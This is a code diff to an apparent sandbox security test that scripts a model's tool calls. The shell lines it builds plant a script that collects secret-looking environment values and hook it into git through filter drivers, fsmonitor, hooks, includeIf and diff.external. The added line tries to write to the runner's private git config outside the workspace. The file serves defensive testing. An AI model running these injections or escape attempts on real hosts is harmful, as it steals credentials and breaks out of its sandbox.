@@ -12,7 +12,9 @@ import { toolOutputs, type ScriptedTurn } from './scripted-model.ts';
  * secret-looking line of every process's environment it can read (as the attack on the app did),
  * wired into every place host-side `git add` / `git diff` would run it: a filter driver with
  * `.gitattributes`, fsmonitor, a `post-index-change` hook, an `includeIf` file with another filter,
- * and `diff.external`. Prints `attack-ready` when set up.
+ * and `diff.external`; it also tries to append fsmonitor to the runner's private git directory
+ * (`../git/config`) and prints `private-git-dir-refused` or `private-git-dir-written`. Prints
+ * `attack-ready` when set up.
  */
 export function gitConfigAttack(marker: string): string {
   return [
@@ -32,6 +34,8 @@ export function gitConfigAttack(marker: string): string {
     'printf \'[filter "y"]\\n\\tclean = %s/.attack.sh\\n\' "$PWD" > .evil.cfg',
     'git config includeIf.gitdir:/.path "$PWD/.evil.cfg"',
     'git config diff.external "$PWD/.attack.sh"',
+    // The runner's private git directory is <workdir>/git next to the workspace <workdir>/repo.
+    'if printf \'[core]\\n\\tfsmonitor = %s/.attack.sh\\n\' "$PWD" >> ../git/config 2>/dev/null; then echo private-git-dir-written; else echo private-git-dir-refused; fi',
     'echo attack-ready',
   ].join('\n');
 }
